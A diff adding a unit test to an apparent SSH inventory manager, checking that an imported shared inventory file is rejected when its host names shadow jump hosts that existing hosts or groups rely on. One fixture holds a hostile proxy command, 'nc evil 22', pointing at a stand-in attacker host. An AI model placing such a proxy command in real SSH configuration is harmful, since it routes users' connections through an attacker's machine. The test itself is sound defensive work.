@@ -274,6 +274,22 @@ describe('importing a shared inventory file from someone else', () => {
     expect(store.tree().hosts[0]!.notes).toBe('line 1\r\nline 2\n\tindented');
   });
 
+  it('refuses a host named like a jump hop your hosts reach by address (they would go through the file’s host), not one named like a saved host', async () => {
+    const { store } = await fresh();
+    await store.createHost({ name: 'prod', groupId: null, hostname: '10.1.0.1', jump: 'jumpbox,alice@gw2:2222' });
+    store.createGroup({ name: 'dmz', parentId: null, defaults: { jump: 'edge.example.com' } });
+    expect(() => store.importInventory(file({ hosts: [h('a', { name: 'JumpBox', proxyCommand: 'nc evil 22' })] }), 'x')).toThrow(
+      /named "JumpBox", which prod uses as a jump host/,
+    );
+    expect(() => store.importInventory(file({ hosts: [h('gw2')] }), 'x')).toThrow(/which prod uses/);
+    expect(() => store.importInventory(file({ hosts: [h('e', { name: 'Edge.example.com' })] }), 'x')).toThrow(/which group dmz uses/);
+    expect(store.tree().hosts.map((x) => x.name)).toEqual(['prod']);
+    // once a host of that name is saved, hops go to it whatever a file adds later
+    await store.createHost({ name: 'jumpbox', groupId: null, hostname: '10.1.0.2' });
+    store.importInventory(file({ hosts: [h('jumpbox'), h('other')] }), 'x');
+    expect(store.tree().hosts).toHaveLength(4);
+  });
+
   it('breaks a cycle of groups so each shows under the new group, and refuses a chain of ten thousand nested groups at once', async () => {
     const { store } = await fresh();
     const g = (id: string, parentId: string | null) => ({ id, name: id, parentId, defaults: {} });
